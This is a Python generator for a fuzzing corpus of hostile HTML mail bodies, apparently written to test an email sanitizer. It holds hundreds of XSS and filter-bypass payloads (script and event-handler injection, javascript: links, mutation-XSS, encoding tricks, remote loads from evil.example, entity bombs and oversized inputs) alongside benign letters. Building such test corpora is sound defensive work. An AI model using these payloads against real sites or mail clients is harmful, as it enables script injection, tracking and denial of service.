#!/usr/bin/env python3
# SPDX-License-Identifier: AGPL-3.0-or-later
"""Writes corpus.jsonl: one hostile HTML body a line, by families.

{"name", "family", one of "html" (text), "base64" (bytes), "repeat" ([[text, times], ...], joined), "charset" (of the mail's label, utf-8 when not given)}
`generate.py --check` fails when the file is not what this program writes; `generate.py --unpack FOLDER` writes each body as a file.
"""
import argparse
import base64
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
CORPUS = os.path.join(HERE, "corpus.jsonl")
JS = "alert(1)"
OUT = "https://evil.example/"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg=="

bodies = []


def add(family, *texts, **fields):
    for text in texts:
        number = sum(1 for body in bodies if body["family"] == family) + 1
        kind = "base64" if isinstance(text, bytes) else "repeat" if isinstance(text, list) else "html"
        value = base64.b64encode(text).decode() if isinstance(text, bytes) else text
        bodies.append({"name": f"{family}-{number:02}", "family": family, kind: value, **fields})


def scripts():
    add("script", f"<script>{JS}</script>", f"<SCRIPT SRC={OUT}x.js></SCRIPT>", f"<ScRiPt >{JS}</sCrIpT >", f"<script/src='{OUT}x.js'></script>", f"<script\n>{JS}</script\n>",
        f"<script\t{JS}>x</script>", f"<<script>{JS}//<</script>", f"<scr<script>ipt>{JS}</scr</script>ipt>", f"<script>{JS}", f"<script><!--\n{JS}\n--></script>",
        f"<script><!--<script></script>{JS}--></script>", "<script>/*</script>*/alert(1)</script>", f"<script type=text/vbscript>{JS}</script>", f"</script><script>{JS}</script>",
        f"\"><script>{JS}</script>", f"'><script>{JS}</script>", f"--><script>{JS}</script>", f"]]><script>{JS}</script>", f"<scr\0ipt>{JS}</scr\0ipt>", f"<\0script>{JS}</script>",
        f"<script\0>{JS}</script>", f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script>", f"<script language=javascript src=//evil.example/x></script>",
        f"<script defer async type=module>{JS}</script>", f"&lt;script&gt;{JS}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{JS}", f"%3Cscript%3E{JS}%3C/script%3E", f"<script>{JS}</script foo=bar>",
        f"<script >{JS}</ script>", "<script>'</script><img src=x onerror=alert(1)>'</script>", f"<noscript><p title=\"</noscript><script>{JS}</script>\">", "<script src=data:,alert(1)></script>")


HANDLERS = ("onload onerror onclick onmouseover onfocus onblur onanimationstart ontransitionend onpointerover onwheel ontoggle onbegin onresize onscroll onsubmit onbeforeinput oncopy "
            "onauxclick ondragstart onhashchange onmessage onpageshow onbeforeunload onfinish onstart").split()


def handlers():
    hosts = ["img src=x", "b", "a href=https://a.example/", "table", "td", "div style=color:red", "font color=red", "p align=left"]
    for i, handler in enumerate(HANDLERS):
        add("handler", f"<{hosts[i % len(hosts)]} {handler}={JS}>x")
    add("handler", f"<img src=x OnErRoR={JS}>", f"<img/src=x/onerror={JS}>", f"<img src=x\nonerror\n=\n{JS}>", f"<img src=x onerror\0={JS}>", f"<img \0onerror={JS} src=x>", f"<b/onclick={JS}>x</b>",
        f"<img src=`x`onerror={JS}>", f"<img src='x'onerror={JS}>", f"<img src=\"x\"onerror={JS}>", f"<img src=x:x\"/onerror={JS}>", f"<img src=\"x\" title=\"a\"onerror=\"{JS}\">",
        f"<img alt=`` onerror={JS} src=x>", f"<p title='\"' onclick={JS} a='\"'>x</p>", f"<p title=\"'\" onclick={JS}>x</p>", f"<p title=&quot; onclick={JS}>x", f"<p title=\"&quot; onclick={JS} x=&quot;\">x",
        f"<p title=\"&#34; onclick={JS}\">x</p>", f"<p title='&#39; onclick={JS} '>x</p>", f"<p =\" title=\" onclick={JS}>x", f"<p \"\" onclick={JS}>x</p>", f"<p ''onclick={JS}>x</p>", f"<p/=/onclick={JS}>x</p>",
        f"<p a=b\x0bonclick={JS}>x</p>", f"<p\x0conclick={JS}>x</p>", f"<p\u00a0onclick={JS}>x</p>", f"<p\u3000onclick={JS}>x", f"<p title=x\u2028onclick={JS}>x", f"<p title=<b onclick={JS}>>x",
        f"<p title=\"a>b\" onclick={JS}>x", f"<p title=\"<!--\" onclick={JS} title=\"-->\">x", f"<p onclick={JS} onclick=2 OnClick=3>x", f"<body onload={JS}>x</body>", f"<html onload={JS}><p>x",
        f"<p data-x=1 aria-label=x onclick={JS} id=a class=b name=c>x</p>", f"<img src=x onerror=\"&#97;lert(1)\">", "<img src=x onerror=\\u0061lert(1)>", f"<p on:click={JS} @click={JS} v-on:click={JS} :href=x>x",
        f"<img src=\"`\" title=\"` onerror={JS} \">", "<img src=1 alt=\"&lt;img src=x onerror=alert(1)&gt;\">", f"<x onclick={JS}>x</x>", f"<custom-element onclick={JS} is=a>x</custom-element>")


def links():
    schemes = ["javascript:" + JS, "JaVaScRiPt:" + JS, " javascript:" + JS, "\x01javascript:" + JS, "java\tscript:" + JS, "java\nscript:" + JS, "java\rscript:" + JS, "java&#9;script:" + JS,
               "java&#x0A;script:" + JS, "java&Tab;script:" + JS, "javascript&colon;" + JS, "javascript&#58;" + JS, "&#106;avascript:" + JS, "&#x6A;&#x61;vascript:" + JS, "&#0000106avascript:" + JS,
               "javascript\0:" + JS, "java\0script:" + JS, "\u00a0javascript:" + JS, "\u3000javascript:" + JS, "\ufeffjavascript:" + JS, "java\u00adscript:" + JS, "java\u200bscript:" + JS,
               "javascript://a.example/%0A" + JS, "javascript:/*http://*/" + JS, "vbscript:msgbox(1)", "VBSCRIPT:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>",
               "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "data:,x", "blob:https://a.example/1", "file:///etc/passwd", "filesystem:http://a/x",
               "about:blank", "view-source:http://a.example/", "jar:http://a!/x", "ftp://a.example/", "//evil.example/", "\\\\evil.example\\", "/\\evil.example", "/path", "#top", "?q", "", "x",
               "http:", "https:evil.example", "http:///x", "https://", "mailto:", "tel:", "ms-msdt:/id", "search-ms:query=x", "intent://x#Intent;end", "skype:x?call", "sms:1", "facetime:1", "chrome://settings",
               "feed:javascript:" + JS, "http\t://evil.example", "ht\ntps://evil.example", "https://a.example/\"onclick=" + JS, "https://a.example/'><script>", "https://a.example/`x`", "https://a.example/ <b>",
               "https://user:pass@evil.example/", "https://a.example\\@evil.example/", "https://xn--80ak6aa92e.com/", "https://\u0430pple.com/", "https://a.example/\u202egpj.exe", "mailto:a@b.example?body=<script>",
               "tel:+7\"><script>", "HTTPS://A.EXAMPLE/", "  https://a.example/  ", "https://a.example/" + "a" * 3000]
    for scheme in schemes:
        quote = "'" if '"' in scheme else '"'
        add("link", f"<a href={quote}{scheme}{quote}>x</a>")
    add("link", "<a href=javascript:alert(1)>x</a>", "<a href=`javascript:alert(1)`>x</a>", "<a href=https://a.example/ href=javascript:alert(1)>x</a>", "<a HREF=javascript:alert(1) href=https://a.example>x",
        f"<a href=https://a.example/ ping={OUT}>x</a>", "<a href=https://a.example/ target=_top rel=opener title=https://bank.example/>x</a>", "<a href=https://a.example/ download=x.exe>x</a>",
        "<a xlink:href=javascript:alert(1)>x</a>", "<a href=https://a.example/><a href=https://b.example/>y</a></a>", "<a href=https://a.example/><table><tr><td><a href=https://b.example/>y</a></table></a>",
        "<a name=x id=y>x</a>", "<area href=javascript:alert(1) shape=default>", "<map name=m><area href=https://evil.example/ shape=default></map><img usemap=#m src=x>", "<link rel=stylesheet href=javascript:alert(1)>",
        "<a attributionsrc=https://evil.example href=https://a.example>x</a>", "<a href=https://a.example/ formaction=javascript:alert(1)>x", "<b href=https://a.example>x</b>", "<div href=javascript:alert(1)>x</div>")


def loads():
    add("load", *[text.replace("URL", OUT) for text in (
        "<img src=URLa.png>", "<img src=//evil.example/a.png alt='a picture'>", "<img src=\\\\evil.example\\a>", "<img src=/\\evil.example/a>", "<img srcset='URLa 1x, URLb 2x'>", "<img src=x srcset=URLa>",
        "<img dynsrc=URLa>", "<img lowsrc=URLa>", "<img src=URLa longdesc=URLb usemap=#m ismap>", "<img src=javascript:alert(1)>", "<img src=\"jav&#9;ascript:alert(1)\">", "<img src=vbscript:x>", "<img src=file:///etc/passwd>",
        "<img src=cid:nobody@x>", "<img src=CID:nobody>", "<img src=cid:>", "<img src='cid:../../x'>", "<img src=data:text/html,x>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+>", "<img src=data:image/png;base64,PHNjcmlwdD4=>", f"<img src=data:image/png;base64,{PNG}>", f"<img src='data:text/html;base64,{PNG}'>",
        f"<img src=DATA:IMAGE/PNG;BASE64,{PNG} onerror=alert(1)>", f"<img src='data:image/png;base64,{PNG}\"onerror=alert(1)'>", "<img src=data:image/png,%89PNG>", "<img src=data:;base64,R0lGODlh>", "<img src=data:>", "<img src=data:,>",
        "<img src=http:>", "<img src=http://>", "<img src=https://user@evil.example:8080/a?b#c>", "<img src=ftp://evil.example/a>", "<img src=URLa alt='\"><script>alert(1)</script>'>", "<img src=URLa alt=']<b>x</b>'>",
        "<img src='https://<b>evil/'>", "<image src=URLa onerror=alert(1)>", "<table background=URLa><td background=URLb>x", "<body background=URLa bgcolor=black text=white>x", "<tr background=URLa>x", "<video poster=URLa src=URLb autoplay>x</video>",
        "<audio src=URLa autoplay onerror=alert(1)>x</audio>", "<source src=URLa onerror=alert(1)>", "<video><source onerror=alert(1) src=URLa></video>", "<track src=URLa default>", "<embed src=URLa.swf allowscriptaccess=always>x",
        "<embed code=URLa>", "<object data=URLa type=text/html>x</object>", "<object data=javascript:alert(1)></object>", "<object classid=clsid:x codebase=URLa><param name=src value=URLb></object>", "<applet code=x archive=URLa>x</applet>",
        "<iframe src=URLa></iframe>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<frameset><frame src=javascript:alert(1)></frameset>", "<frame src=URLa>", "<layer src=URLa></layer>",
        "<ilayer src=URLa>x</ilayer>", "<bgsound src=URLa>", "<link rel=stylesheet href=URLa>", "<link rel=prefetch href=URLa>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=import href=URLa>", "<link rel=icon href=URLa>",
        "<base href=URL><a href=x>y</a><img src=a>", "<base href=javascript:/><a href=//alert(1)//>x</a>", "<base target=_top>", "<meta http-equiv=refresh content='0;url=URL'>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
        "<META HTTP-EQUIV=Set-Cookie CONTENT='a=b'>", "<meta http-equiv=Content-Security-Policy content=''>", "<meta http-equiv=Link content='<URL>; rel=stylesheet'>", "<meta name=referrer content=unsafe-url>",
        "<html manifest=URLa><p>x", "<script src=URLa integrity=x></script>", "<input type=image src=URLa>", "<isindex action=URLa>", "<picture><source srcset=URLa><img src=URLb></picture>", "<portal src=URLa></portal>",
        "<fencedframe src=URLa></fencedframe>", "<blockquote cite=URLa>x</blockquote><q cite=URLb>y</q><del cite=URLc>z</del>", "<ins datetime=1 cite=URLa>x</ins>", "<head profile=URLa><title>x</title></head>", "<input autofocus onfocus=alert(1)>",
        "<img src=URLa width=1 height=1>", "<img src=URLa width=1 height=1 style='display:none'>", "<img src=URLa loading=lazy decoding=async referrerpolicy=unsafe-url crossorigin fetchpriority=high>", "<xml src=URLa id=x></xml><span datasrc=#x datafld=a dataformatas=html>x</span>",
        "<img src=\"URLa\" alt=\"&#x202e;gpj\">", "<t:set attributename=innerHTML to='<script>alert(1)</script>'>x</t:set>", "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>", "<img src=data:image/webp;base64,UklGRgAAAABXRUJQVlA4>",
        "<img src=data:image/jpeg;base64,/9j/4AAQ>", "<img src=data:image/bmp;base64,Qk0AAAAA>", "<img src=data:application/pdf;base64,JVBERi0=>")])


def styles():
    values = ["background:url(URLa)", "background-image:url('URLa')", "background-image:URL(\"URLa\")", "background:\\75rl(URLa)", "background:u\\72l(URLa)", "background:u/**/rl(URLa)", "background:url(/**/URLa)", "list-style:url(URLa)",
              "list-style-image:url(URLa)", "border-image:url(URLa) 1", "cursor:url(URLa),auto", "content:url(URLa)", "content:'x'", "filter:url(URLa#x)", "-webkit-mask:url(URLa)", "mask-image:url(URLa)", "clip-path:url(URLa#x)",
              "shape-outside:url(URLa)", "background:image-set('URLa' 1x)", "background:-webkit-image-set(url(URLa) 1x)", "background:cross-fade(url(URLa),red)", "background:element(#x)", "background:src('URLa')", "width:expression(alert(1))",
              "width:exp/**/ression(alert(1))", "width:e\\xpression(alert(1))", "width:\\65 xpression(alert(1))", "width:ｅｘｐｒｅｓｓｉｏｎ(alert(1))", "xss:expression(alert(1))", "behavior:url(URLa.htc)", "behaviour:url(#default#time2)",
              "-moz-binding:url(URLa#x)", "-MOZ-BINDING:url(URLa)", "-o-link:'javascript:alert(1)';-o-link-source:current", "position:fixed;top:0;left:0;width:100%;height:100%", "position:absolute", "position:/**/fixed", "po\\sition:fixed",
              "z-index:99999", "transform:scale(99)", "animation:x 1s", "transition:all 1s", "opacity:0", "@import 'URLa'", "@import url(URLa);color:red", "color:red;}body{display:none", "color:red}</style><script>alert(1)</script>",
              "color:expression(1)", "color:var(--x)", "--x:url(URLa);color:var(--x)", "color:attr(href)", "width:calc(1px + 1px)", "color:env(x)", "color:rgb(1,2,3", "color:rgb(1,2,3)url(URLa)", "color:#12", "color:#12345g",
              "color:red;;;;:::;background", "color", ":red", "color:", "color:red!important", "color:red ! important", "color:red!importantx", "font-family:'a;b',\"c\"", "font-family:'x\\'", "font-family:url(URLa)", "font-family:expression",
              "font:12px/1.5 'Times New Roman',serif", "src:url(URLa)", "color:red\0;background:url(URLa)", "color:red\n;background\n:\nurl(\nURLa)", "background:red url( URLa )", "background-color:red;background-image:none",
              "margin:-99999px", "margin:-999999px", "width:1e9px", "width:999999999999px", "width:100vw", "height:NaN", "text-indent:-9999px", "font-size:0", "display:none", "float:left", "color:inherit", "all:initial", "color:javascript:alert(1)",
              "background:javascript:alert(1)", "background:url(javascript:alert(1))", "background:url(data:image/svg+xml,<svg/onload=alert(1)>)", "color:&#114;ed;back&#103;round:url(URLa)", "quotes:'a' 'b'", "<!-- color:red -->",
              "color:red/*", "*/color:red", "*color:red;_color:red", "mso-style:x;color:blue", "--:x", "pointer-events:none", "width:1px;width:2px;width:expression(1)", "unicode-range:U+26", "color:U\\RL(x)"]
    for value in values:
        value = value.replace("URL", OUT) if "URL(" not in value else value.replace("URLa", OUT)
        quote = "'" if '"' in value else '"'
        add("style", f"<p style={quote}{value}{quote}>x</p>")
    add("style", *[text.replace("URL", OUT) for text in (
        "<style>body{background:url(URLa)}</style>x", "<style>@import 'URLa';</style>x", "<style>*{position:fixed}</style>x", "<style><!--</style><script>alert(1)</script>--></style>", "<style></style><img src=x onerror=alert(1)></style>",
        "<style>a{b:</style<script>alert(1)</script>", "<style>x", "<STYLE TYPE=text/javascript>alert(1)</STYLE>x", "<style>input[value^=a]{background:url(URLa)}</style><input value=a>", "<style media=all onload=alert(1)>x{}</style>",
        "<style>@font-face{src:url(URLa)}</style>x", "<div style=\"color:red\" style=\"background:url(URLa)\">x</div>", "<font face=\"a,'b'\" color=\"url(URLa)\">x</font>", "<font face='x;background:url(URLa)'>x</font>",
        "<td bgcolor=\"red;background:url(URLa)\" width=\"1;x\" height=expression(1)>x", "<p align=\"left;x:expression(1)\" dir=\"&#1;\" lang=\"x y\">x", "<table border=99999999999 cellpadding=-1 cellspacing=1e9 width=99999999%>x</table>",
        "<td colspan=999999 rowspan=999999>x</td>", "<font size=+99999999999>x</font>", "<ol start=9999999999999999>x</ol>", "<hr size=99999 width=9999999 noshade>", "<bdo dir=rtl>x</bdo>", "<marquee onstart=alert(1)>x</marquee>", "<blink>x</blink>",
        "<link rel=stylesheet type=text/css href=data:,*{}>x", "<p style>x</p>", "<p style=>x</p>", "<p style=color:red;background:url(URLa)>x</p>")])


def mutation():
    inner = "<img src=x onerror=alert(1)>"
    wrappers = ["svg", "math", "noscript", "template", "noembed", "noframes", "xmp", "plaintext", "listing", "textarea", "title", "iframe", "select", "option", "object", "style", "script", "desc", "foreignObject", "annotation-xml", "mtext",
                "mglyph", "table", "caption", "colgroup", "frameset", "marquee", "details", "dialog", "keygen", "ruby", "rtc", "button", "form", "fieldset", "legend", "canvas", "video", "applet", "xml", "comment", "nextid", "multicol"]
    for name in wrappers:
        add("mutation", f"<{name}><p title=\"</{name}>{inner}\">x</{name}>{inner}")
    add("mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><math><table id=\"</table><img src onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><desc><table><thead><s></table></s><table><thead><s></table></s><style><a title=\"</style><img src onerror=alert(1)>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>", "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>", "<svg><script>alert&#40;1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"></svg>", "<svg><image href=https://evil.example/a></svg>", "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
        "<svg/onload=alert(1)>", "<svg onload=alert(1)//", "<math href=javascript:alert(1)>x</math>", "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
        "<table><tr><td><table></td></tr></table><script>alert(1)</script>", "<table><b><tr><td>x</b></td></tr></table>", "<table><a href=https://a.example/>x<td>y</a></table>", "<table><td><p><td></p></table>", "<p><table><p></table></p>x",
        "<b><p><b><p><b><p><b><p>x", "<a><div><a><div><a>x", "<font color=red><p><font color=blue></p></font>x</font>", "<li><ul><li><dd><dt><li>x", "<h1><h2><h3>x</h1>", "<nobr><nobr>x</nobr>", "<select><option><p>x</select><p>y",
        "<select><template><option><script>alert(1)</script>", "<template><template></template><script>alert(1)</script></template>", "<dl><dd><dl></dd></dl>x", "<button><button>x</button>", "<frameset><noframes><script>alert(1)</script></noframes></frameset>",
        "<p></p></p></p>x</b></i>", "</html></body><p>x", "<html><html onload=alert(1)><body><body onload=alert(1)>x", "<head><p>x</head><title>y</title><script>alert(1)</script>", "<body><head><script>alert(1)</script></head>x",
        "<td>x<tr>y<tbody>z<table>", "<table><caption><table><caption>x", "<table><colgroup><b><col><script>alert(1)</script></table>", "<ruby><rt><rp><rb><rtc>x", "<pre>\n\n<listing>\nx", "<pre><pre>x</pre></pre>",
        "<image src=x onerror=alert(1)>", "<p><form><p>x</form><p>y", "<br></br><p/><div/>x", "<wbr><wbr><wbr><embed><embed>x", "<i><b></i></b><u><s></u></s>x", "<div><span></div></span>x", "<a href=https://a.example><form><input></a></form>x",
        "<p id=getElementById name=body>x</p><img name=cookie><form id=x><input name=attributes></form>", "<a id=x><a id=x name=y href=https://a.example>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>", "<p>&amp;lt;script&amp;gt;</p>",
        "<textarea></textarea><script>alert(1)</script>", "<title></title><script>alert(1)</script>", "<textarea><!--</textarea><img src=x onerror=alert(1)>-->", "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<iframe><!--</iframe><img src=x onerror=alert(1)>-->")


def comments():
    inner = "<img src=x onerror=alert(1)>"
    add("comment", f"<!--{inner}-->x", f"<!-->{inner}-->", f"<!--->{inner}-->", f"<!---->{inner}", f"<!--x--!>{inner}-->", f"<!-- --  >{inner} -->", f"<!--[if gte IE 4]>{inner}<![endif]-->", f"<![if !IE]>{inner}<![endif]>x",
        f"<!--[if !mso]><!-->{inner}<!--<![endif]-->", f"<![CDATA[{inner}]]>", f"<![CDATA[<!--]]>{inner}-->", f"<svg><![CDATA[</svg>{inner}]]></svg>", f"<?xml version=1.0?>{inner}", f"<?php {inner} ?>", f"<!DOCTYPE x [<!ENTITY e '{inner}'>]>&e;",
        f"<!doctype html SYSTEM 'https://evil.example/x.dtd'>{inner}", f"<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", f"<! {inner}>", f"</ {inner}>", f"<//{inner}>", f"<!--{inner}", f"<!{inner}", f"<?{inner}", "<", "<a", "<a ", "<a href", "<a href=", "<a href='",
        "<a href='x", "</", "</p", "<!", "<!-", "<!--", "<!--x--", "&", "&#", "&#x", "&#x;", "&#xFFFFFFFFFF;", "&#0;", "&#xD800;", "&#x110000;", "&#128;", "&#13;&#10;&#9;&#1;", "&notin;&not;&notx;&bogus;", "&lt;&gt;&quot;&apos;&NewLine;&Tab;", "<>x", "<1>x", "<p<b>x",
        f"<p/><{inner}", "<p a=1 a=2 b b=3>x", f"<p title=<!-->{inner}-->x", f"x<!-- a -- b -->y<!-- -- -->{inner}", f"<comment>{inner}</comment>", f"<%{inner}%>", f"{{{{{inner}}}}}", "${alert(1)}", "<!--#exec cmd='x'-->")
    add("bomb", "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;'>]>&d;", [["&amp;", 400000]], [["&#65;", 400000]], [["&nbsp;", 300000]],
        [["&lt;", 900000]])


def encodings():
    xss = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    add("encoding", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", charset="utf-7")
    add("encoding", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", b"<meta charset=utf-7>+ADw-img src=x onerror=alert(1)+AD4-", b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe", b"\xe0\x80\xbcscript\xe0\x80\xbe", b"\xf0\x80\x80\xbcscript>",
        b"\xf8\x80\x80\x80\xbcscript>", b"<p title=\"\xc3\" onclick=alert(1) x=\"\">x", b"<p title=\"\xf0\" onclick=alert(1)>x\"", b"\xed\xa0\x80\xed\xb0\x80<script>", b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0a\0", b"\xfe\xff\0<\0s\0c\0r\0i\0p\0t\0>", b"\xef\xbb\xbf<script>alert(1)</script>x",
        b"\xef\xbb\xbf\xef\xbb\xbf<img src=x onerror=alert(1)>", b"\0\0<\0<script>\0alert(1)", b"<img\0src=x\0onerror=alert(1)>", b"<a href=\"java\0script:alert(1)\">x", b"\x80\x81\xfe\xff<b>x</b>", b"<\xa0script>alert(1)</script>", b"<p \xa0onclick=alert(1)>x", b"\x1b$B<script>\x1b(B")
    for charset in ("iso-2022-jp", "iso-2022-kr", "hz-gb-2312", "shift_jis", "gb18030", "big5", "euc-kr", "utf-16", "utf-16le", "utf-32", "ibm037", "x-user-defined", "koi8-r", "windows-1251", "us-ascii", "bogus", "x-mac-cyrillic", "\"><script>"):
        add("encoding", xss.encode(), charset=charset)
    add("encoding", b"<p title=\"\x81\" onclick=alert(1) a=\"\">x", charset="shift_jis")
    add("encoding", b"\x1b(J<a title=\"\x1b$B\" onclick=alert(1)>x", charset="iso-2022-jp")
    add("encoding", xss.encode("utf-16le"), xss.encode("utf-16be"), charset="utf-16")
    add("encoding", bytes(c ^ 0 for c in "＜script＞alert(1)＜/script＞".encode()), "\u2039script\u203aalert(1)", "\u02c2img src=x onerror=alert(1)\u02c3", "\u202e<b>x</b>\u202c", "\ufdd0\ufffe\uffff\U0001fffex", "\x7f\x80\x85<b>x</b>", "\ud7ff\ue000<b>\U0010ffff</b>")


def sizes():
    for name in ("div", "b", "font", "table", "p", "span", "blockquote", "li", "a", "x", "svg", "td", "center", "wbr", "ul><li", "table><tr><td", "b><p", "a><div", "font color=red><p"):
        add("size", [[f"<{name}>", 20000], ["x", 1]])
    add("size", [["<div>", 250], ["x<hr>y<br><img src=https://evil.example/>", 1], ["</div>", 250]], [["<", 300000]], [["</p>", 100000]], [["</b>", 100000]], [["<!--", 100000]], [["<!", 100000]], [["<?", 100000]], [["&", 300000]], [["<p a", 100000]], [["<a href='", 50000]],
        [["<p title=\"", 1], ["x", 1000000], ["\" onclick=alert(1)>x", 1]], [["<p ", 1], ["a=1 ", 100000], ["onclick=alert(1)>x", 1]], [["<a href=https://a.example/", 1], ["a", 100000], [">x</a>", 1]], [["<p style=\"", 1], ["color:red;", 50000], ["\">x", 1]],
        [["<p style=\"color:", 1], ["red ", 50000], ["\">x", 1]], [["<p style=\"", 1], ["font-family:'", 50000], ["\">x", 1]], [["<", 1], ["a", 200000], [">x", 1]], [["<p ", 1], ["a", 200000], ["=1>x", 1]], [["<script>", 1], ["x", 1000000], ["</script>y", 1]],
        [["<!--", 1], ["x", 1000000], ["-->y", 1]], [["<style>", 1], ["}", 1000000], ["</style>y", 1]], [["<img src=https://evil.example/a>", 30000]], [["<br>", 250000]], [["<b>x</b>", 120000]], [["x", 2100000]], [["\u0416", 1100000]], [["<td>", 100000], ["</td>", 100000]],
        [["<img src=data:image/png;base64,", 1], [PNG.rstrip("="), 1], ["AAAA", 400000], [">", 1]], [["<img src=data:image/png;base64,", 1], [PNG.rstrip("="), 1], ["AAAA", 800000], [">x", 1]], [["<i><b></i></b>", 20000]], [["<p><font color=red><p>", 300], ["x", 1], ["<p>x</p>", 5000]],
        [["<form><input>", 20000]], [["<svg><style>", 5000], ["x", 1]], [["<select><option>", 20000], ["x", 1]], [["\n", 1000000]], [["\0", 1000000]], [["\r\n\t ", 200000]], [["<table><tr>", 20000], ["x", 1]], [["&lt;script&gt;", 100000]])


def letters():
    """What honest programs write: must survive."""
    add("letter", "<html xmlns:o='urn:schemas-microsoft-com:office:office'><head><style>p.MsoNormal{margin:0}</style></head><body lang=RU link=blue><div class=WordSection1><p class=MsoNormal>Hello<o:p></o:p></p><p class=MsoNormal><span lang=EN-US style='font-size:11.0pt;"
        "font-family:\"Calibri\",sans-serif;color:#1F497D'>World</span></p></div></body></html>", "<div dir=\"ltr\"><div>Hi,</div><div><br></div><div class=\"gmail_quote\"><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);"
        "padding-left:1ex\">old</blockquote></div></div>", "<table width=600 cellpadding=0 cellspacing=0 border=0 align=center bgcolor=#ffffff><tbody><tr><td width=50% valign=top style='padding:10px 20px'><a href=https://shop.example/?a=1&b=2>Buy</a></td></tr></tbody></table>",
        "<body bgcolor=black text=white><p>light on dark</p></body>", "<ol start=3 type=a><li>x<li>y</ol><dl><dt>a<dd>b</dl>", "<p>\u041f\u0440\u0438\u0432\u0435\u0442, <b>\u043c\u0438\u0440</b>! 1 &lt; 2 &amp;&amp; 3 &gt; 2 &nbsp;&copy;</p>", "plain text without any tag", "",
        f"<p>inline <img src='data:image/png;base64,{PNG}' alt=dot width=1 height=1></p>", "<pre>  a\n    b\n</pre>", "<center><font size=+2 color=red face='Arial, sans-serif'>Sale</font></center><hr noshade width=50%>")


for family in (scripts, handlers, links, loads, styles, mutation, comments, encodings, sizes, letters):
    family()


def expanded(body):
    if "base64" in body:
        return base64.b64decode(body["base64"])
    text = body["html"] if "html" in body else "".join(piece * times for piece, times in body["repeat"])
    return text.encode("utf-8", "surrogatepass")


def main():
    options = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    options.add_argument("--check", action="store_true")
    options.add_argument("--unpack", metavar="FOLDER")
    options = options.parse_args()
    text = "".join(json.dumps(body) + "\n" for body in bodies)
    if options.unpack:
        os.makedirs(options.unpack, exist_ok=True)
        for body in bodies:
            with open(os.path.join(options.unpack, body["name"] + ".html"), "wb") as file:
                file.write(expanded(body))
    elif options.check:
        with open(CORPUS) as file:
            sys.exit(0 if file.read() == text else "corpus.jsonl is not what generate.py writes")
    else:
        with open(CORPUS, "w") as file:
            file.write(text)
    print(f"{len(bodies)} bodies in {len({body['family'] for body in bodies})} families")


if __name__ == "__main__":
    main()
